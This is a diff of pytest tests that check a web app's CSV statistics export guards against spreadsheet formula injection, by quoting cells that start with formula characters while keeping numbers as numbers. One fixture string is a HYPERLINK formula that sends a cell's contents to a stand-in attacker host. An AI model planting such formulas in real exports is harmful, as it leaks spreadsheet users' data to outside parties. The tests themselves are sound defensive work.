@@ -7,6 +7,7 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 from bs4 import BeautifulSoup
+from sqlalchemy import update
 
 from tests.factories import PASSWORD, csrf_token
 from webapp.models import APPROVED, PENDING, REJECTED, Article, AuditEvent, Topic, article_topics, db
@@ -313,3 +314,29 @@ def test_audit_log_newest_first_filtered_and_paged(app, lead, history, monkeypat
     assert len(merges.select("#audit-rows tr")) == 1
     assert lead.get("/audit?after=garbage").status_code == 400
     assert lead.get("/audit?action=explode").status_code == 400
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=1+2", "@SUM(A1)", "+1", "-2+3", "\tx", "\rx"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_numbers_stay_numbers():
+    board = stats.Dashboard(
+        stats.StatsFilters(),
+        NOW,
+        NOW,
+        figures={"decided": 3, "change": -2, "rate": -0.5},
+        by_topic=[{"name": name, "count": 1} for name in FORMULAS],
+    )
+    rows = stats.csv_rows(board)
+    topics = [row[1] for row in rows if row and row[0] == "approved by topic"][1:]
+    assert topics == ["'" + name for name in FORMULAS]
+    assert ["figures", "change", -2] in rows and ["figures", "rate", -0.5] in rows
+
+
+def test_the_stats_csv_quotes_a_provider_named_like_a_formula(lead):
+    db.session.execute(update(Article).values(provider_name=FORMULAS[0]))
+    db.session.commit()
+    rows = list(csv.reader(io.StringIO(lead.get("/stats.csv?period=30d").get_data(as_text=True))))
+    providers = [row[1] for row in rows if row and row[0] == "approved by provider"][1:]
+    assert providers == ["'" + FORMULAS[0]]
+    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row)
